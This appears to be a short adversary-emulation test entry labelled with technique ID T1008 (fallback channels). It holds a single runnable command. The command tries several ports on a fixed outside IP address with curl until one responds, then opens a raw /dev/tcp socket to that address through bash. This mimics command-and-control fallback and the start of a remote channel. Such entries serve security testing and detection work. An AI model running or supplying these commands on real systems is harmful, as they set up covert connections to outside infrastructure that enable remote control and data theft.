# title: Where one server does not answer, the next is asked
# technique: T1008
# needs: curl bash

for port in 81 82 83 80; do curl -s --max-time 1 "http://192.88.99.7:$port/x" && break; done; bash -c 'exec 3<>/dev/tcp/192.88.99.7/443'
